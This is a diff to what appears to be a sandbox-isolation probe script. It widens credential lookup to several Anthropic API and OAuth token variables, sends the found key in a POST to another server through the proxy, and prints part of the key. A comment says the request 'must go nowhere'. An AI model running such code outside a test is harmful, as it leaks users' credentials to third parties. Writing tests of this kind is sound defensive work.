@@ -81,6 +81,8 @@ def main() -> None:
                 files += 1
                 if NEEDLE in data:
                     found.append(f"file {path}")
+    key = next((os.environ[n] for n in ("ANTHROPIC_API_KEY", "ANTHROPIC_AUTH_TOKEN",
+                                         "CLAUDE_CODE_OAUTH_TOKEN") if os.environ.get(n)), "")
     # Through the proxy, in proxy form, to another server: it must go nowhere.
     base = urlsplit(os.environ.get("ANTHROPIC_BASE_URL", ""))
     status = ""
@@ -88,7 +90,7 @@ def main() -> None:
         body = b"{}"
         request = (
             f"POST {other}/v1/messages HTTP/1.1\r\nHost: {urlsplit(other).netloc}\r\n"
-            f"x-api-key: {os.environ.get('ANTHROPIC_API_KEY', '')}\r\n"
+            f"x-api-key: {key}\r\n"
             f"content-type: application/json\r\ncontent-length: {len(body)}\r\n"
             "connection: close\r\n\r\n"
         ).encode() + body
@@ -100,7 +102,7 @@ def main() -> None:
             status = f"error {exc}"
     print("SCAN " + json.dumps({
         "processes": len(pids), "memory_read": memory_read, "files": files, "found": found,
-        "env_key": os.environ.get("ANTHROPIC_API_KEY", "")[:12],
+        "env_key": key[:12],
         "base_url": os.environ.get("ANTHROPIC_BASE_URL", ""), "proxy_form_status": status,
     }))
 
